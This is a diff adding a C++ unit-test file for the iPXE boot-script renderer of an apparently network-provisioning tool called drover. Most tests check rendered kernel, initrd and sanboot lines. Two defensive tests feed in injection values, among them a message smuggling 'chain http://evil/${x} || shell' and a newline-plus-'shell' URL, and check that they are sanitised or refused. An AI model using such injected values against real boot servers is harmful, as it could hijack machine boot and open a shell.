@@ -1,0 +1,138 @@
+#include "templates/ipxe.hpp"
+
+#include <gtest/gtest.h>
+
+#include "templates/template.hpp"
+
+namespace drover::templates {
+namespace {
+
+BootScriptParams sample(bool efi) {
+  BootScriptParams p;
+  p.base_url = "http://192.0.2.1:8080";
+  p.node = "worker-1";
+  p.efi = efi;
+  p.kernel_url = "http://192.0.2.1:8080/assets/boot-env/vmlinuz";
+  p.initrd_url = "http://192.0.2.1:8080/assets/boot-env/initrd.img";
+  p.api_url = "https://192.0.2.1:8443";
+  p.ca_fingerprint = "sha256:" + std::string(64, 'a');
+  p.token = "tok_EN-abc";
+  return p;
+}
+
+std::string lineWith(const std::string& script, std::string_view start) {
+  std::size_t pos = 0;
+  while (pos < script.size()) {
+    std::size_t end = script.find('\n', pos);
+    std::string line = script.substr(pos, end - pos);
+    if (line.rfind(start, 0) == 0) return line;
+    if (end == std::string::npos) break;
+    pos = end + 1;
+  }
+  return {};
+}
+
+const char* kSelf = "http://192.0.2.1:8080/boot.ipxe?mac=${netX/mac}&uuid=${uuid}&arch=${buildarch}&platform=${platform}";
+
+TEST(IpxeTest, EntryChainsWithIdentity) {
+  auto s = renderScript(Script::kEntry, sample(false));
+  ASSERT_TRUE(s.ok()) << s.error().message;
+  EXPECT_EQ(s->rfind("#!ipxe\n", 0), 0u);
+  EXPECT_EQ(lineWith(*s, "chain --autofree --replace http"), std::string("chain --autofree --replace ") + kSelf + " || goto retry");
+  EXPECT_NE(s->find("isset ${netX/mac} || dhcp"), std::string::npos);
+}
+
+TEST(IpxeTest, InstallBios) {
+  auto s = renderScript(Script::kInstall, sample(false));
+  ASSERT_TRUE(s.ok()) << s.error().message;
+  EXPECT_EQ(lineWith(*s, "kernel "),
+            "kernel http://192.0.2.1:8080/assets/boot-env/vmlinuz drover.api=https://192.0.2.1:8443 drover.ca=sha256:" +
+                std::string(64, 'a') +
+                " drover.token=tok_EN-abc drover.node=worker-1 drover.mode=install console=tty0 console=ttyS0,115200n8"
+                " || goto failed");
+  EXPECT_EQ(lineWith(*s, "initrd "), "initrd --name initrd.img http://192.0.2.1:8080/assets/boot-env/initrd.img || goto failed");
+  EXPECT_EQ(lineWith(*s, "boot"), "boot || goto failed");
+  EXPECT_EQ(lineWith(*s, "chain "), std::string("chain --autofree --replace ") + kSelf);
+}
+
+TEST(IpxeTest, InstallEfiNamesTheInitrd) {
+  auto p = sample(true);
+  p.extra_args = "quiet ip=dhcp";
+  auto s = renderScript(Script::kInstall, p);
+  ASSERT_TRUE(s.ok());
+  std::string kernel = lineWith(*s, "kernel ");
+  EXPECT_EQ(kernel.rfind("kernel http://192.0.2.1:8080/assets/boot-env/vmlinuz initrd=initrd.img drover.api=", 0), 0u);
+  EXPECT_NE(kernel.find("console=ttyS0,115200n8 quiet ip=dhcp || goto failed"), std::string::npos);
+}
+
+TEST(IpxeTest, LocalBootBiosAndUefi) {
+  auto bios = renderScript(Script::kLocalBoot, sample(false));
+  ASSERT_TRUE(bios.ok());
+  EXPECT_EQ(lineWith(*bios, "sanboot"), "sanboot --no-describe --drive 0x80 || goto failed");
+  EXPECT_EQ(bios->find("exit"), std::string::npos);
+  EXPECT_EQ(bios->find("kernel"), std::string::npos);  // never a reinstall
+  auto uefi = renderScript(Script::kLocalBoot, sample(true));
+  ASSERT_TRUE(uefi.ok());
+  EXPECT_EQ(lineWith(*uefi, "sanboot"), "sanboot --no-describe --drive 0x80 || exit 1");
+  EXPECT_NE(uefi->find("# UEFI:"), std::string::npos);
+  EXPECT_EQ(uefi->find("drover.mode"), std::string::npos);
+}
+
+TEST(IpxeTest, DiscoverMode) {
+  auto p = sample(false);
+  p.node.clear();
+  auto s = renderScript(Script::kDiscover, p);
+  ASSERT_TRUE(s.ok()) << s.error().message;
+  std::string kernel = lineWith(*s, "kernel ");
+  EXPECT_NE(kernel.find(" drover.mode=discover "), std::string::npos);
+  EXPECT_EQ(kernel.find("drover.node"), std::string::npos);
+  EXPECT_EQ(kernel.find("initrd=initrd.img"), std::string::npos);
+}
+
+TEST(IpxeTest, FailedShowsSanitisedMessageAndRetries) {
+  auto p = sample(false);
+  p.message = "disk /dev/sda too small\nchain http://evil/${x} || shell";
+  p.retry_seconds = 60;
+  auto s = renderScript(Script::kFailed, p);
+  ASSERT_TRUE(s.ok());
+  EXPECT_EQ(lineWith(*s, "echo Drover: worker-1 FAILED"),
+            "echo Drover: worker-1 FAILED: disk /dev/sda too small_chain http://evil/__x_ __ shell");
+  EXPECT_EQ(lineWith(*s, "sleep"), "sleep 60");
+  EXPECT_EQ(lineWith(*s, "chain "), std::string("chain --autofree --replace ") + kSelf);
+}
+
+TEST(IpxeTest, UnsafeValuesAreRefused) {
+  auto p = sample(false);
+  p.token = "abc ${evil}";
+  EXPECT_EQ(renderScript(Script::kInstall, p).error().code, "bad_script_value");
+  p = sample(false);
+  p.kernel_url = "http://x/a\nshell";
+  EXPECT_FALSE(renderScript(Script::kInstall, p).ok());
+  p = sample(false);
+  p.node = "a b";
+  EXPECT_FALSE(renderScript(Script::kInstall, p).ok());
+  p = sample(false);
+  p.base_url.clear();
+  EXPECT_FALSE(renderScript(Script::kEntry, p).ok());
+}
+
+TEST(IpxeTest, OverridesAreCheckedToo) {
+  auto s = renderScript(Script::kInstall, sample(false), "#!ipxe\necho {{node}} {{no_such_key}}\n");
+  ASSERT_FALSE(s.ok());
+  EXPECT_EQ(s.error().message, "install.ipxe: 2:15: missing 'no_such_key'");
+  auto ok = renderScript(Script::kInstall, sample(false), "#!ipxe\necho {{node}}\n");
+  EXPECT_EQ(*ok, "#!ipxe\necho worker-1\n");
+}
+
+TEST(IpxeTest, EveryBuiltinNeedsOnlyScriptData) {
+  auto data = scriptData(sample(true));
+  ASSERT_TRUE(data.ok());
+  for (Script s : {Script::kEntry, Script::kInstall, Script::kLocalBoot, Script::kDiscover, Script::kFailed}) {
+    auto t = Template::parse(std::string(scriptName(s)), std::string(builtinScript(s)));
+    ASSERT_TRUE(t.ok());
+    EXPECT_TRUE(t->missingNames(*data).empty()) << scriptName(s);
+  }
+}
+
+}  // namespace
+}  // namespace drover::templates
